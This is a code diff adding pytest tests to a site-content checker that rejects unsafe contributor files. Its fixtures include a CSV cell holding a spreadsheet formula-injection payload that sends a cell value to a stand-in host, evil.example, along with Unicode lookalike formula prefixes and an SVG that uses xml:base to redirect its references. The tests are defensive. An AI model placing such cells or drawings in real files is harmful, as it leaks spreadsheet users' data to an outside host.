@@ -28,6 +28,7 @@ import os
 import random
 import re
 import shutil
+import sys
 import xml.etree.ElementTree as ET
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -37,7 +38,7 @@ import pytest
 from ishub.security import content_security_policy, parse_headers_file
 from selectolax.lexbor import LexborHTMLParser
 
-from tests.conftest import FIXTURES, Result, make_site, mkdocs_build, real_config
+from tests.conftest import FIXTURES, Result, make_site, mkdocs_build, real_config, run
 
 SEED = int(os.environ.get("HUB_HOSTILE_SEED", "20261126"))
 POSTS, CASE_STUDIES = 24, 10
@@ -805,3 +806,68 @@ def test_a_drawing_may_not_hide_a_fetch_in_a_presentation_attribute(attribute):
     ]
     label = "<svg xmlns='http://www.w3.org/2000/svg'><rect aria-label='Police &amp; health' fill='#0b0c0c'/></svg>"
     assert svg_problems("blog/images/x.svg", label) == []
+
+
+def test_a_csv_beside_the_content_may_not_hold_a_formula(tmp_path):
+    """The hub neutralises its own catalogue.csv; a contributor's CSV is published as it is,
+    so a cell a spreadsheet would run is refused with its line and column (numbers are data)."""
+    root = make_site(tmp_path / "repo")
+    (root / "blog" / "images" / "figures.csv").write_text(
+        'name,link\n=HYPERLINK("http://evil.example/?"&A1,"Details"),x\nTotal,-5\nPhone,+44 20 7946 0000\n'
+        "Share, \u200b@SUM(1)\n",
+        encoding="utf-8",
+    )
+    result = run([sys.executable, "-m", "ishub", "check"], cwd=root)
+    assert result.code == 1
+    lines = [line for line in result.out.splitlines() if line.startswith("blog/images/figures.csv")]
+    assert lines == [
+        "blog/images/figures.csv:2: file: column 1 holds '=HYPERLINK(\"http://evil.example/?\"&A1', "
+        "which a spreadsheet would run as a formula; begin the cell with an apostrophe (') so that it "
+        "is shown as text",
+        "blog/images/figures.csv:5: file: column 2 holds ' \\u200b@SUM(1)', which a spreadsheet would run "
+        "as a formula; begin the cell with an apostrophe (') so that it is shown as text",
+    ]
+
+
+@pytest.mark.parametrize("value", ["\ufe66SUM(1)", "\u2212A1+1", "\u200b=1+1", "\ufeff+A1", "\u00a0\uff1d1"])
+def test_lookalike_formula_starts_get_an_apostrophe(value):
+    from ishub.cells import inert_cell
+
+    assert inert_cell(value) == "'" + value
+    assert inert_cell("Harrowfield \u2212 north") == "Harrowfield \u2212 north"
+
+
+def test_a_drawing_may_not_move_its_references_with_xml_base():
+    from ishub.assets import svg_problems
+
+    drawing = (
+        "<svg xmlns='http://www.w3.org/2000/svg'><g xml:base='http://evil.example/base/'>"
+        "<image href='x.png'/></g></svg>"
+    )
+    assert [p.message for p in svg_problems("blog/images/x.svg", drawing)] == [
+        "sets xml:base on <g>, which would make its references point elsewhere"
+    ]
+
+
+def test_aliases_and_authors_are_bounded(tmp_path):
+    """Each old address is a page and each author a page and two feeds in every build: an
+    item keeps at most 20 aliases and the authors file holds at most 500 authors."""
+    root = make_site(tmp_path / "repo")
+    post = root / "blog" / "2014-03-01-first-post.md"
+    text = post.read_text(encoding="utf-8")
+    aliases = "themes: [culture]\naliases:\n" + "".join(f"  - blog/old-{n}/\n" for n in range(21))
+    post.write_text(text.replace("themes: [culture]\n", aliases, 1), encoding="utf-8")
+    result = run([sys.executable, "-m", "ishub", "check"], cwd=root)
+    assert result.code == 1
+    expected = "blog/2014-03-01-first-post.md:7: aliases: lists 21 old addresses; an item may keep at most 20"
+    assert expected in result.out, result.out[-2000:]
+    post.write_text(text, encoding="utf-8")
+    authors = root / "blog" / "authors.yml"
+    extra = "".join(f"  extra-{n}:\n    name: Extra Author {n}\n" for n in range(500))
+    authors.write_text(authors.read_text(encoding="utf-8") + extra, encoding="utf-8")
+    result = run([sys.executable, "-m", "ishub", "check"], cwd=root)
+    assert result.code == 1
+    assert (
+        "blog/authors.yml:1: authors: lists 502 authors; the file may hold at most 500; "
+        "remove the authors who have written nothing published on the hub"
+    ) in result.out
